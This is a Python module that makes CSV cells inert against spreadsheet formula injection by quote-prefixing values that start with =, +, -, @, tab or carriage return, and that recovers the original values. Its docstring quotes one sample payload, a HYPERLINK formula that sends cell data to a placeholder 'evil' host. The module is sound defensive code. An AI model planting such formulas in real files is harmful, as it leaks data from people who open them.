"""CSV cells that a spreadsheet would run as a formula, made inert and kept recoverable.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's
list for CSV injection) is a formula to Excel, LibreOffice and Google Sheets: a sample id
``=HYPERLINK("http://evil/?"&A1)`` in an export runs when a reviewer opens it. ``spreadsheet_safe``
prefixes such a cell with one single quote ``'``, which spreadsheets show as text and hide.

The mapping is one-to-one, so the original is always recoverable with ``spreadsheet_original``:
a value that already is quotes followed by a trigger character (``'=x``) gets one more quote
(``''=x``), and reading back removes exactly one quote from any value of that shape. Every other
value (``'abc``, ``S001``, ``1.5``) is written unchanged. Only text columns are touched: numbers
are written as numbers, so ``-3.2`` in a numeric column stays a number.
"""

from __future__ import annotations

import re
from typing import Final

import polars as pl

#: First characters that make a spreadsheet cell a formula (OWASP CSV injection).
FORMULA_TRIGGERS: Final[str] = "=+-@\t\r"
_NEEDS_QUOTE: Final[re.Pattern[str]] = re.compile(r"'*[=+\-@\t\r]", re.DOTALL)
_PATTERN_TEXT: Final[str] = r"^'*[=+\-@\t\r]"


def spreadsheet_safe(value: str) -> str:
    """``value`` as a CSV cell no spreadsheet runs: one ``'`` in front of a formula-like value."""
    return "'" + value if _NEEDS_QUOTE.match(value) else value


def spreadsheet_original(cell: str) -> str:
    """The value ``spreadsheet_safe`` was given, from what it returned."""
    return cell[1:] if cell.startswith("'") and _NEEDS_QUOTE.match(cell, 1) else cell


def spreadsheet_safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """Every text column (and categorical or enum, as text) through ``spreadsheet_safe``."""
    text = [n for n, t in frame.schema.items() if t in (pl.String, pl.Categorical) or isinstance(t, pl.Enum)]
    return frame.with_columns(
        pl.when(pl.col(n).cast(pl.String).str.contains(_PATTERN_TEXT))
        .then(pl.lit("'") + pl.col(n).cast(pl.String))
        .otherwise(pl.col(n).cast(pl.String))
        .alias(n)
        for n in text
    )


def spreadsheet_safe_csv(frame: pl.DataFrame) -> str:
    """The CSV text of ``frame`` with every text cell made inert; what the product's exports write."""
    return spreadsheet_safe_frame(frame).write_csv()
